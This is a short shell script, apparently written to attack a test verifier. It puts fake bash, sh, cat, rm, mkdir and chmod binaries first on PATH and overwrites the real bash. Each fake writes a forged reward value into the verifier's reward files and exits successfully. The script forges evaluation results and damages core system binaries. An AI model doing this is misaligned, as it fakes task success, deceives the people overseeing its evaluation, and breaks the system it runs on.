# The tests' shell and tools replaced: fake bash, sh, cat, rm, mkdir and chmod first on PATH, and the
# real bash overwritten. Each writes the reward (cat prints it) and exits 0.
r="${FORGE_FORGED_REWARD:?}"
fake="#!/bin/sh
/usr/bin/mkdir -p /logs/verifier 2>/dev/null
echo '{\"reward\": $r}' > /logs/verifier/reward.json; echo $r > /logs/verifier/reward.txt
echo $r; exit 0"
for name in bash sh cat rm mkdir chmod; do
    printf '%s\n' "$fake" > "/usr/local/bin/$name" && chmod 755 "/usr/local/bin/$name"
done
real=$(readlink -f /bin/bash)
printf '%s\n' "$fake" > /tmp/.forge-fake-bash && chmod 755 /tmp/.forge-fake-bash && mv -f /tmp/.forge-fake-bash "$real"
true
